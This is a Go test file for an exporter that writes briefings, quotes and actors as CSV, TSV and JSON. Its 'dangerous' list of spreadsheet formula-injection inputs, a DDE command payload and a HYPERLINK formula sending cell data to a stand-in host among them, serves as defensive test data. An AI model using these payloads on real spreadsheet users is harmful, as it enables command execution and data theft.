package exporter

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode"

	"parley/model"
)

func written(t testing.TB, s shelf, o Options) string {
	t.Helper()
	var out bytes.Buffer
	if err := Write(t.Context(), &out, s, model.Filter{}, o); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// dangerous are texts that a program of tables may take for a formula.
var dangerous = []string{
	"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1+1", "\u00a0=1", "\u3000＝1", "ok\n=1+1", "ok\r\n@x", "＝1+1", "＋1",
	"－1", "＠a", "=HYPERLINK(\"http://e.x?\"&A1,\"x\")", "\x1b=1", "\u200b=1", "\u202e=1", "\ufeff=1", "\u0301=1", "|calc", "%0A=1", "−1", "\u2028=1", "\v=1", "\x00=1", "\u3164=1",
}

func checkCells(t *testing.T, out string, comma rune) {
	t.Helper()
	r := csv.NewReader(strings.NewReader(out))
	r.Comma, r.LazyQuotes = comma, comma == '\t'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, out)
	}
	for _, row := range rows {
		if len(row) != len(rows[0]) {
			t.Fatalf("%d cells under %d columns: %q", len(row), len(rows[0]), row)
		}
		for _, c := range row {
			if strings.ContainsFunc(c, func(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Zl, unicode.Zp) }) {
				t.Errorf("%q holds a character that breaks a line or is obeyed", c)
			}
			if at := strings.TrimLeft(c, " \u00a0\u3000\u2007"); at != "" && strings.ContainsRune("=+-@＝＋－＠|%\t", []rune(at)[0]) {
				t.Errorf("%q begins a formula", c)
			}
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if at := strings.TrimLeft(line, "\" \u00a0"); at != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(at)[0]) {
			t.Errorf("the line %q begins a formula", line)
		}
	}
}

func TestNoCellBeginsAFormula(t *testing.T) {
	s := shelf{}
	for _, d := range dangerous {
		m := model.Mention{Name: d, Words: d}
		s.texts = append(s.texts, model.Text{
			Briefing:  model.Briefing{File: d, Title: d, Source: d, Tracks: []string{d}, Tags: []string{d}, Author: d, Problems: []model.Problem{{Message: d}}},
			Quotes:    []model.Quote{{Text: d, Speaker: &m, Via: []string{d}, About: []string{d}, Tracks: []string{d}, Reason: d, Date: model.Date(d)}},
			Proposals: []model.Proposal{{Text: d, Actors: []model.Mention{m}, Elements: []model.Element{{Text: d}, {Text: d}}}},
		})
		s.actors = append(s.actors, model.ActorRow{Actor: model.Actor{Name: d, ID: d, Party: d, Role: d, Code: d, Aliases: []string{d}}})
	}
	checkCells(t, written(t, s, Options{Form: "csv"}), ',')
	checkCells(t, written(t, s, Options{Form: "tsv"}), '\t')
	checkCells(t, written(t, s, Options{Form: "csv", Fields: columns}), ',')
}

func TestATableHasTheFieldsOfTheContract(t *testing.T) {
	out := written(t, sample(), Options{Form: "csv"})
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 5 { // head, briefing, quote, proposal, actor
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	value := func(row int, column string) string { return rows[row][slices.Index(rows[0], column)] }
	for _, c := range []struct {
		row          int
		column, want string
	}{
		{1, "type", "briefing"}, {1, "file", "a.md"}, {1, "date", "2025-04-25"}, {1, "title", "On the line‹9B›2J"},
		{2, "type", "quote"}, {2, "start", "20"}, {2, "line", "2"}, {2, "speaker", "an official"}, {2, "mention", "he"}, {2, "kind", "partial"},
		{2, "grade", "unnamed"}, {2, "origin", "found"}, {2, "certainty", "doubtful"}, {2, "continues", "q0"},
		{3, "predicate", "reject"}, {3, "stance", "against"}, {3, "elements", "one; two"}, {3, "speaker", "Arland"},
		{4, "type", "actor"}, {4, "name", "Arland"}, {4, "kind", "state"},
	} {
		if got := value(c.row, c.column); got != c.want {
			t.Errorf("row %d, %s: %q, want %q", c.row, c.column, got, c.want)
		}
	}
	for _, name := range []string{"origin", "certainty", "grade", "via"} {
		if !slices.Contains(rows[0], name) {
			t.Errorf("no column %s", name)
		}
	}
}

func TestFieldsAreChosen(t *testing.T) {
	fields := []string{"type", "text", "grade"}
	if got := written(t, sample(), Options{Form: "tsv", Fields: fields}); !strings.HasPrefix(got, "type\ttext\tgrade\nbriefing\t\t\n") {
		t.Errorf("%q", got)
	}
	if got := written(t, sample(), Options{Form: "jsonl", Fields: fields}); !strings.HasPrefix(got, "{\"type\":\"briefing\"}\n{\"type\":\"quote\",\"text\":") {
		t.Errorf("%q", got)
	}
	for _, o := range []Options{{Form: "csv", Fields: []string{"speeker"}}, {Form: "xlsx"}, {Form: "md", Fields: fields}} {
		if err := Write(t.Context(), &bytes.Buffer{}, sample(), model.Filter{}, o); err == nil || !strings.Contains(err.Error(), "there") && !strings.Contains(err.Error(), "md") {
			t.Errorf("%v: %v", o, err)
		}
	}
}

func TestJSONIsOneArrayOfTheSame(t *testing.T) {
	var array []any
	if err := json.Unmarshal([]byte(written(t, sample(), Options{Form: "json"})), &array); err != nil || len(array) != 4 {
		t.Fatalf("%d objects, %v", len(array), err)
	}
	var lines []any
	for _, line := range strings.Split(strings.TrimSpace(written(t, sample(), Options{Form: "jsonl"})), "\n") {
		var one any
		if err := json.Unmarshal([]byte(line), &one); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, one)
	}
	a, _ := json.Marshal(array)
	if b, _ := json.Marshal(lines); !bytes.Equal(a, b) {
		t.Errorf("%s\n%s", a, b)
	}
	if got := written(t, shelf{}, Options{Form: "json"}); got != "[]\n" {
		t.Errorf("an empty library is %q", got)
	}
}

// FuzzCell: a cell is one clean line that begins no formula, and plain words stay as they are.
func FuzzCell(f *testing.F) {
	for _, d := range dangerous {
		f.Add(d)
	}
	f.Add("plain words, é 漢")
	f.Fuzz(func(t *testing.T, s string) {
		c := cell(s)
		if formula(c) || strings.ContainsFunc(c, unicode.IsControl) {
			t.Fatalf("%q is written as %q", s, c)
		}
	})
}
